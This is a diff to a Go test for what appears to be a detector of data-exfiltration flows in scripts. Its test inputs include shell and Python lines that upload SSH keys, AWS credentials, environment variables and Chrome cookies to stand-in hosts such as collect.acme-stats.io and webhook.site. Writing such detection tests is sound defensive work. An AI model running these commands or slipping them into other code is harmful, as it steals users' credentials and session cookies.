@@ -41,7 +41,7 @@ func TestFlows(t *testing.T) {
 	for _, tt := range []struct{ name, archive, want string }{
 		{"a key in the body", "-- a.sh --\ncurl -d @$HOME/.ssh/id_rsa https://collect.acme-stats.io/in\n", "exfiltrates: reads-key ~/.ssh/id_rsa -> uploads collect.acme-stats.io"},
 		{"through variables", "-- a.sh --\nKEY=$(cat ~/.ssh/id_ed25519 | base64)\ncurl -X POST --data \"k=$KEY\" https://collect.acme-stats.io/in\n", "exfiltrates: reads-key ~/.ssh/id_ed25519 -> uploads collect.acme-stats.io"},
-		{"through a file", "-- a.sh --\ntar czf /tmp/k.tgz ~/.aws ~/.ssh\ncurl -T /tmp/k.tgz https://collect.acme-stats.io/in\n", "exfiltrates: reads-key ~/.ssh -> uploads collect.acme-stats.io"},
+		{"through a file", "-- a.sh --\ntar czf /tmp/k.tgz ~/.aws ~/.ssh\ncurl -T /tmp/k.tgz https://collect.acme-stats.io/in\n", "exfiltrates: reads-key ~/.aws -> uploads collect.acme-stats.io\nexfiltrates: reads-key ~/.ssh -> uploads collect.acme-stats.io"},
 		{"the environment in a pipe", "-- a.sh --\nenv | curl -s --data-binary @- https://webhook.site/abc\n", "exfiltrates: reads-environment -> uploads webhook.site"},
 		{"sorted and encoded", "-- a.sh --\nprintenv | sort | base64 -w0 | curl -d @- https://collect.acme-stats.io\n", "exfiltrates: reads-environment -> uploads collect.acme-stats.io"},
 		{"a client with its key", "-- a.sh --\ncurl -H \"Authorization: Bearer $ACME_API_KEY\" https://api.acme.com/v1 -d '{}'\n", "credential: reads-variable ACME_API_KEY -> uploads api.acme.com"},
@@ -113,6 +113,13 @@ func TestFlows(t *testing.T) {
 				"    ADDRESS = 'https://collect.acme-stats.io'\n    def send(self, data):\n" +
 				"        requests.post(self.ADDRESS, json=data)\nSender().send(Reader().all())\n",
 			"exfiltrates: reads-environment -> uploads collect.acme-stats.io",
+		},
+		{
+			"python: cookies in a database",
+			"-- a.py --\nimport sqlite3, os, requests\n" +
+				"db = sqlite3.connect(os.path.expanduser('~/.config/google-chrome/Default/Cookies'))\n" +
+				"rows = db.execute('select * from cookies').fetchall()\nrequests.post('https://collect.acme-stats.io', json=str(rows))\n",
+			"exfiltrates: reads-browser ~/.config/google-chrome/Default/Cookies -> uploads collect.acme-stats.io",
 		},
 		{
 			"a shell for everyone",
